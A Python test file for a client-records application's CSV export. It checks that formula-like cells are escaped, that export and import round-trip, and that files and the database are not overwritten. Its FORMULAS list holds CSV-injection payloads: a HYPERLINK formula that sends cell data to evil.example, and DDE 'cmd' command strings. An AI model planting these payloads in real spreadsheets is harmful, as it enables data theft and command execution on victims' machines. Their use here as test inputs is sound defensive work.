"""Clients export that a spreadsheet cannot turn against the office, and that never replaces a file by
mistake (issue 11 items 1 and 13)."""

from __future__ import annotations

import csv
import os
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kantor_cases.domain import csv_text
from kantor_cases.domain.errors import KantorError
from kantor_cases.domain.records import ClientDraft
from kantor_cases.services import locations
from kantor_cases.services.office import Office
from kantor_cases.services.output_files import TargetRefused

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]


def rows_of(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))


def test_formula_cells_are_written_as_text_and_phones_and_numbers_are_left_alone(office, tmp_path):
    office.clients.create(ClientDraft(given_name=FORMULAS[0], family_name="Ruiz", notes=FORMULAS[1],
                                      city=FORMULAS[2], phone="(213) 555-0134"))
    office.clients.create(ClientDraft(given_name="Luis", family_name=FORMULAS[3], notes="-5", street="+1"))
    target = tmp_path / "clients.csv"
    assert office.client_csv.export_file(target) == 2
    first, second = rows_of(target)
    assert (first["first_name"], first["notes"], first["city"]) == tuple("'" + f for f in FORMULAS[:3])
    assert first["phone"] == "+12135550134"
    assert (second["last_name"], second["notes"], second["street"]) == ("'" + FORMULAS[3], "-5", "+1")


def test_export_import_export_is_a_round_trip_with_the_marks(office, tmp_path):
    for number, value in enumerate([*FORMULAS, "'=already marked", "'plain quote", "''@two", "\tx"]):
        office.clients.create(ClientDraft(given_name=f"Cliente{number}", family_name="Ruiz", notes=value))
    first = tmp_path / "first.csv"
    office.client_csv.export_file(first)
    fresh = Office.open(locations.resolve(str(tmp_path / "fresh" / "k.sqlite3")), "Ana")
    try:
        assert fresh.client_csv.import_file(first).imported == 8
        notes = {fresh.clients.get(hit.id).notes for hit in fresh.search.search("ruiz", limit=20)}
        second = tmp_path / "second.csv"
        fresh.client_csv.export_file(second)
    finally:
        fresh.close()
    assert notes == {*FORMULAS, "'=already marked", "'plain quote", "''@two", "x"}
    assert first.read_bytes() == second.read_bytes()


_risky_start = st.sampled_from(["=", "+", "-", "@", "'", "''", "'=", "-1", "+1", ""])
_risky_value = st.builds(lambda start, rest: start + rest, _risky_start,
                         st.text(alphabet=st.sampled_from(list("=+-@'1.x (A)")), max_size=8))


@given(value=st.one_of(_risky_value, st.text(max_size=12)))
def test_a_marked_cell_reads_back_as_it_was_and_never_starts_a_formula(value):
    written = csv_text.mark(value)
    assert csv_text.unmark(written) == value
    assert written[:1] not in {"=", "+", "-", "@", "\t", "\r"} or csv_text._PLAIN_NUMBER.match(written)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(given_name=_risky_value.filter(lambda v: v.strip(" '")), notes=_risky_value)
def test_names_and_notes_survive_export_then_import(office, tmp_path, given_name, notes):
    office.client_csv._backup = None
    given_name, notes = " ".join(given_name.split()), notes.strip()  # as the client form stores them
    created = office.clients.create(ClientDraft(given_name=given_name, family_name="Prueba", notes=notes))
    target = tmp_path / "one.csv"
    office.client_csv.export_file(target, force=True)
    office.clients.delete(created.id, created.version)
    report = office.client_csv.import_file(target)
    assert report.imported == 1
    back = office.clients.get(office.search.search("prueba")[0].id)
    assert (back.given_name, back.notes) == (given_name, notes)
    office.clients.delete(back.id, back.version)


def test_export_never_replaces_a_file_unless_asked_and_never_the_office_database(office, tmp_path):
    office.clients.create(ClientDraft(given_name="Ana", family_name="Ruiz"))
    existing = tmp_path / "report.csv"
    existing.write_text("the partner's spreadsheet")
    with pytest.raises(TargetRefused, match="already exists"):
        office.client_csv.export_file(existing)
    assert existing.read_text() == "the partner's spreadsheet"
    assert office.client_csv.export_file(existing, force=True) == 1
    database = Path(office.locations.database)
    before = database.read_bytes()[:16]
    with pytest.raises(TargetRefused, match="office's database"):
        office.client_csv.export_file(database, force=True)
    assert database.read_bytes()[:16] == before == b"SQLite format 3\x00"
    assert office.clients.count() == 1


def test_a_folder_without_permission_is_named_as_the_target_not_a_temporary_file(office, tmp_path, monkeypatch):
    import tempfile

    def refused(prefix, suffix, dir):  # what a folder the user may not write to answers (even as root)
        raise PermissionError(13, "Permission denied", os.path.join(dir, f"{prefix}x1y2{suffix}"))

    monkeypatch.setattr(tempfile, "mkstemp", refused)
    with pytest.raises(KantorError, match=r"clients.csv could not be written: permission denied\. Choose a folder "
                                          r"you may write to\.") as caught:
        office.client_csv.export_file(tmp_path / "clients.csv")
    assert ".part" not in str(caught.value) and "x1y2" not in str(caught.value)


def test_a_failed_write_leaves_neither_the_target_nor_a_temporary_file(office, tmp_path, monkeypatch):
    office.clients.create(ClientDraft(given_name="Ana", family_name="Ruiz"))

    def full_disk(_descriptor):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full_disk)
    with pytest.raises(KantorError, match=r"clients.csv could not be written: the disk is full\. Free some space"):
        office.client_csv.export_file(tmp_path / "clients.csv")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["office"]
